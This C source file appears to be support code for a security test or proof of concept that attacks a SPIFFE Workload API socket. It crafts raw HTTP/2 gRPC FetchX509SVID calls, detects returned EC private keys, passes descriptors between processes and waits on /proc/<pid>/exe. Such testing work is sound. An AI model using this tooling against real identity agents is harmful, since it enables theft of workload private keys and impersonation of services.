/* SPDX-License-Identifier: Apache-2.0 */
#include "attack.h"

#include <errno.h>
#include <limits.h>
#include <poll.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define FRAME_DATA    0
#define FRAME_HEADERS 1
#define FLAG_END      0x1

void die(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
	fputc('\n', stderr);
	_exit(125);
}

int64_t now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

void sleep_ms(int ms)
{
	struct timespec ts = {.tv_sec = ms / 1000, .tv_nsec = (long)(ms % 1000) * 1000000};

	while (nanosleep(&ts, &ts) && errno == EINTR)
		;
}

int dial(const char *path)
{
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	if (fd < 0)
		die("socket: %s", strerror(errno));
	if (strlen(path) >= sizeof(sa.sun_path))
		die("%s: too long for a socket's name", path);
	memcpy(sa.sun_path, path, strlen(path) + 1);
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)))
		die("connect %s: %s", path, strerror(errno));
	return fd;
}

static bool put(int fd, const void *data, size_t len)
{
	const char *p = data;

	while (len > 0) {
		ssize_t n = send(fd, p, len, MSG_NOSIGNAL);

		if (n < 0 && errno == EINTR)
			continue;
		if (n <= 0)
			return false;
		p += n;
		len -= (size_t)n;
	}
	return true;
}

static size_t frame(uint8_t *out, uint8_t type, uint8_t flags, uint32_t stream, const void *payload,
		    size_t len)
{
	const uint8_t head[9] = {(uint8_t)(len >> 16),
				 (uint8_t)(len >> 8),
				 (uint8_t)len,
				 type,
				 flags,
				 (uint8_t)(stream >> 24),
				 (uint8_t)(stream >> 16),
				 (uint8_t)(stream >> 8),
				 (uint8_t)stream};

	memcpy(out, head, sizeof(head));
	if (len)
		memcpy(out + sizeof(head), payload, len);
	return sizeof(head) + len;
}

/* One header, literal without indexing (RFC 7541, 6.2.2), no Huffman: the same bytes on every
 * stream. */
static size_t header(uint8_t *out, const char *name, const char *value)
{
	const size_t nl = strlen(name), vl = strlen(value);

	out[0] = 0;
	out[1] = (uint8_t)nl;
	memcpy(out + 2, name, nl);
	out[2 + nl] = (uint8_t)vl;
	memcpy(out + 3 + nl, value, vl);
	return 3 + nl + vl;
}

static size_t call(uint8_t *out, uint32_t stream)
{
	static const uint8_t empty_message[5];
	uint8_t block[512];
	size_t n = 0, len;

	n += header(block + n, ":method", "POST");
	n += header(block + n, ":scheme", "http");
	n += header(block + n, ":path", "/SpiffeWorkloadAPI/FetchX509SVID");
	n += header(block + n, ":authority", "localhost");
	n += header(block + n, "content-type", "application/grpc");
	n += header(block + n, "te", "trailers");
	n += header(block + n, "workload.spiffe.io", "true");
	len = frame(out, FRAME_HEADERS, 0x4, stream, block, n);
	len += frame(out + len, FRAME_DATA, FLAG_END, stream, empty_message, sizeof(empty_message));
	return len;
}

bool ask(int fd)
{
	static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
	uint8_t out[1024];
	size_t n = sizeof(preface) - 1;

	memcpy(out, preface, n);
	n += frame(out + n, 4, 0, 0, NULL, 0); /* SETTINGS, all defaults */
	n += call(out + n, 1);
	return put(fd, out, n);
}

bool ask_again(int fd, uint32_t stream)
{
	uint8_t out[1024];

	return put(fd, out, call(out, stream));
}

/* PrivateKeyInfo of an EC key: version 0, then the algorithm. A certificate has no version 0 before
 * it. */
static bool holds_key(const uint8_t *data, size_t len)
{
	static const uint8_t mark[] = {0x02, 0x01, 0x00, 0x30, 0x13, 0x06, 0x07,
				       0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01};

	return memmem(data, len, mark, sizeof(mark)) != NULL;
}

/* Goes through the whole frames of `buf`; true when nothing more is to be waited for. */
static bool judge(const uint8_t *buf, size_t len, struct answer *a)
{
	size_t at = 0;

	a->bytes = len;
	a->data_bytes = 0;
	a->key = holds_key(buf, len);
	while (len - at >= 9) {
		const uint8_t *h = buf + at;
		const size_t n = (size_t)h[0] << 16 | (size_t)h[1] << 8 | h[2];

		if (len - at - 9 < n)
			break;
		if (h[3] == FRAME_DATA)
			a->data_bytes += n;
		if ((h[3] == FRAME_DATA || h[3] == FRAME_HEADERS) && (h[4] & FLAG_END))
			a->ended = true;
		at += 9 + n;
	}
	return a->ended || a->key;
}

struct answer hear(int fd, int ms)
{
	static uint8_t buf[256 * 1024];
	struct answer a = {0};
	const int64_t end = now_ms() + ms;
	size_t len = 0;

	while (len < sizeof(buf)) {
		struct pollfd p = {.fd = fd, .events = POLLIN};
		const int64_t left = end - now_ms();
		ssize_t n;

		if (left <= 0)
			break;
		if (poll(&p, 1, (int)left) <= 0)
			continue;
		n = read(fd, buf + len, sizeof(buf) - len);
		if (n <= 0) {
			a.closed = true;
			break;
		}
		len += (size_t)n;
		if (judge(buf, len, &a))
			break;
	}
	judge(buf, len, &a);
	return a;
}

void report(const char *who, const struct answer *a)
{
	printf("{\"who\":\"%s\",\"bytes\":%zu,\"data_bytes\":%zu,\"key\":%s,\"closed\":%s,"
	       "\"ended\":%s}\n",
	       who, a->bytes, a->data_bytes, a->key ? "true" : "false",
	       a->closed ? "true" : "false", a->ended ? "true" : "false");
	fflush(stdout);
}

void fd_send(int sock, int fd)
{
	union {
		char space[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} u = {0};
	char byte = 'f';
	struct iovec iov = {.iov_base = &byte, .iov_len = 1};
	struct msghdr m = {.msg_iov = &iov,
			   .msg_iovlen = 1,
			   .msg_control = u.space,
			   .msg_controllen = sizeof(u.space)};
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);

	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &fd, sizeof(int));
	if (sendmsg(sock, &m, 0) != 1)
		die("sendmsg: %s", strerror(errno));
}

int fd_take(int sock)
{
	union {
		char space[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} u = {0};
	char byte;
	struct iovec iov = {.iov_base = &byte, .iov_len = 1};
	struct msghdr m = {.msg_iov = &iov,
			   .msg_iovlen = 1,
			   .msg_control = u.space,
			   .msg_controllen = sizeof(u.space)};
	struct cmsghdr *c;
	int fd = -1;

	if (recvmsg(sock, &m, 0) != 1)
		return -1;
	c = CMSG_FIRSTHDR(&m);
	if (c && c->cmsg_type == SCM_RIGHTS)
		memcpy(&fd, CMSG_DATA(c), sizeof(int));
	return fd;
}

bool wait_exe(pid_t pid, const char *path, int ms)
{
	const int64_t end = now_ms() + ms;
	char link[64], seen[PATH_MAX];

	snprintf(link, sizeof(link), "/proc/%d/exe", (int)pid);
	while (now_ms() < end) {
		const ssize_t n = readlink(link, seen, sizeof(seen) - 1);

		if (n > 0) {
			seen[n] = '\0';
			if (!strcmp(seen, path))
				return true;
		}
		sleep_ms(2);
	}
	return false;
}
